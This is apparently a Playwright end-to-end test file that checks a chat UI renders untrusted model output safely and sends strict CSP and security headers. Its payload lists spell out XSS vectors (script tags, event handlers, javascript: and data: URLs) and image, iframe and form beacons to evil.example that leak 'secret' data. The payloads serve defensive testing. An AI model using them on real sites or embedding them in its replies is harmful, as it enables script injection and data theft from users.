// Model output is untrusted: XSS payloads never execute or fetch; strict CSP and security headers; no localStorage.
/// <reference lib="dom" />
/// <reference lib="dom.iterable" />

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  ensureWebBuilt,
  launchBrowser,
  openPage,
  sendAndWait,
  signIn,
  startStack,
  type PageWatch,
  type Stack,
} from './harness.js';

let stack: Stack;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let watch: PageWatch;

/** Answers a model might give to attack the page (each sets window.__pwned or fetches evil.example if it works). */
const PAYLOADS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<img src="http://evil.example/leak.png?q=secret">',
  '[click me](javascript:window.__pwned=3)',
  '[case](JaVaScRiPt:window.__pwned=4)',
  '[entity](&#106;avascript:window.__pwned=5)',
  '[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD02PC9zY3JpcHQ+)',
  '![leak](http://evil.example/leak.png?conversation=secret)',
  '![js image](javascript:window.__pwned=7)',
  '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTgiLz4=)',
  '<a href="javascript:window.__pwned=9">html link</a>',
  '<svg onload="window.__pwned=10"></svg>',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<details open ontoggle="window.__pwned=11">x</details>',
  '<style>body{background:url(http://evil.example/css.png)}</style>',
  '&lt;script&gt;window.__pwned=12&lt;/script&gt;',
  '<javascript:window.__pwned=13>',
  '[ok](https://example.com/safe "title")',
  '<math><mi xlink:href="javascript:window.__pwned=14">m</mi></math>',
  '<form action="http://evil.example/"><button>go</button></form>',
];

/** Multi-line tricks (reference links, fenced HTML, nested images) delivered as one exact answer. */
const MULTILINE = [
  '[ref link][r]',
  '',
  '[r]: javascript:window.__pwned=20',
  '',
  '[![img in link](http://evil.example/i.png)](javascript:window.__pwned=21)',
  '',
  '<div',
  'onmouseover="window.__pwned=22">hover</div>',
  '',
  '```html',
  '<script>window.__pwned=23</script>',
  '```',
  '',
  '* [list](vbscript:msgbox(1))',
  '* <https://example.com/auto>',
].join('\n');

beforeAll(async () => {
  await ensureWebBuilt();
  [stack, browser] = await Promise.all([startStack(), launchBrowser()]);
});

afterAll(async () => {
  await browser?.close();
  await stack?.close();
});

beforeEach(async () => {
  stack.mock.resetScenario();
  await context?.close();
  ({ context, page, watch } = await openPage(browser, stack.url));
});

/** Everything a hostile answer must not have achieved. */
async function assertNothingHappened(): Promise<void> {
  const state = await page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __cspViolations: string[] };
    const answers = [...document.querySelectorAll('.msg.assistant .md')];
    return {
      pwned: w.__pwned ?? null,
      csp: w.__cspViolations,
      scripts: answers.flatMap((a) => [
        ...a.querySelectorAll('script, img, iframe, svg, math, style, form, object, embed, details'),
      ]).length,
      handlers: answers
        .flatMap((a) => [...a.querySelectorAll('*')])
        .filter((el) => [...el.attributes].some((attr) => attr.name.startsWith('on') || attr.name === 'style')).length,
      links: answers
        .flatMap((a) => [...a.querySelectorAll('a')])
        .map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), target: a.getAttribute('target') })),
    };
  });
  expect(state.pwned).toBeNull();
  expect(state.csp).toEqual([]);
  expect(state.scripts).toBe(0);
  expect(state.handlers).toBe(0);
  for (const link of state.links) {
    if (link.href === null) continue;
    expect(link.href).toMatch(/^(https?:|mailto:)/);
    expect(link).toMatchObject({ rel: 'noopener noreferrer', target: '_blank' });
  }
  expect(watch.foreignRequests).toEqual([]);
}

describe('untrusted model output', () => {
  it('renders each XSS payload inert: nothing runs, nothing is fetched, no CSP violation', async () => {
    await signIn(page, stack);
    for (const payload of PAYLOADS) {
      // The mock answers exactly this text, streamed in small chunks; the user's message carries it too (shown as plain
      // text).
      stack.mock.setScenario({ replyText: payload });
      await sendAndWait(page, payload);
    }
    const text = await page.locator('.msg.assistant .md').allTextContents();
    expect(text.join('\n')).toContain('window.__pwned = 1');
    // Hover and click everything a payload could have turned into an active element.
    for (const element of await page
      .locator('.msg.assistant .md a:not([href]), .msg.assistant .md div, .msg.assistant .md span')
      .all())
      await element.hover();
    for (const link of await page.locator('.msg.assistant .md a:not([href])').all()) await link.click();
    const images = await page.locator('.msg.assistant .img-link').all();
    expect(images.length).toBeGreaterThan(0);
    expect(await images[0].getAttribute('href')).toMatch(/^http:\/\/evil\.example\//);
    await assertNothingHappened();
  });

  it('handles multi-line markdown tricks in a streamed answer', async () => {
    await signIn(page, stack);
    stack.mock.setScenario({ replyText: MULTILINE });
    await sendAndWait(page, 'tricks please');
    expect(await page.locator('.msg.assistant .md').textContent()).toContain('hover');
    await page.locator('.msg.assistant pre code.hljs').waitFor();
    expect(await page.locator('.msg.assistant pre code').textContent()).toContain('<script>window.__pwned=23</script>');
    expect(await page.locator('.msg.assistant .md a[href="https://example.com/auto"]').count()).toBe(1);
    for (const element of await page.locator('.msg.assistant .md *').all())
      if (await element.isVisible()) await element.hover();
    await assertNothingHappened();
  });

  it('keeps credentials out of localStorage and cookies, and loads highlight.js only once a code block appears', async () => {
    await signIn(page, stack);
    await sendAndWait(page, 'no code here');
    expect(watch.requests.filter((u) => u.includes('hljs'))).toEqual([]);
    stack.mock.setScenario({ replyText: 'Here:\n\n```python\nprint("hi")\n```\n' });
    await sendAndWait(page, 'now some code');
    await page.locator('.msg.assistant pre code.hljs .hljs-built_in').waitFor();
    expect(watch.requests.filter((u) => /\/assets\/hljs-languages-[\w-]+\.js$/.test(u))).toHaveLength(1);
    expect(await page.evaluate(() => ({ local: localStorage.length, cookie: document.cookie }))).toEqual({
      local: 0,
      cookie: '',
    });
    await assertNothingHappened();
  });
});

describe('UI responses', () => {
  it('carry a strict CSP and security headers; index.html is not cached, hashed assets are', async () => {
    const index = await fetch(`${stack.url}/`, { headers: { 'accept-encoding': 'br' } });
    expect(index.status).toBe(200);
    const csp = index.headers.get('content-security-policy')!;
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).toContain("img-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    expect(index.headers.get('x-content-type-options')).toBe('nosniff');
    expect(index.headers.get('referrer-policy')).toBe('no-referrer');
    expect(index.headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(index.headers.get('permissions-policy')).toContain('camera=()');
    expect(index.headers.get('cache-control')).toBe('no-cache');
    const html = await index.text();
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/\sstyle=|<style/);
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)![1];
    const asset = await fetch(stack.url + script, { headers: { 'accept-encoding': 'gzip' } });
    expect(asset.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(asset.headers.get('content-security-policy')).toBe(csp);
    const etag = asset.headers.get('etag')!;
    const again = await fetch(stack.url + script, { headers: { 'if-none-match': etag } });
    expect(again.status).toBe(304);
    const missing = await fetch(`${stack.url}/assets/nope.js`);
    expect(missing.status).toBe(404);
  });
});
